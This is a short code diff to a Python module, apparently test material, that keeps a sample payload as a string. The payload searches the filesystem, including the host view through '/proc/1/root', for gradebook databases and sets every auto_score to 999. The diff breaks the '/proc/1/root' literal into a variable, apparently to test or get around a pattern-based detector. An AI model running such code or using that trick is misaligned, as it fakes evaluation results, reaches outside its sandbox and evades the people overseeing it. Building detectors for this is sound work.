@@ -10,7 +10,8 @@ from ..traces import MARK
 
 DATABASE = """
 import glob, sqlite3, os
-for pattern in ('/**/gradebook.db', '/proc/1/root/**/gradebook.db', '../../../gradebook.db', '/tmp/**/*.db', '/var/tmp/**/*.db'):
+first = '/proc/1/root'
+for pattern in ('/**/gradebook.db', first + '/**/gradebook.db', '../../../gradebook.db', '/tmp/**/*.db', '/var/tmp/**/*.db'):
     for path in glob.glob(pattern, recursive=pattern.startswith(('/tmp', '/var/tmp')))[:100]:
         database = sqlite3.connect(path)
         database.execute('update grade set auto_score = 999')
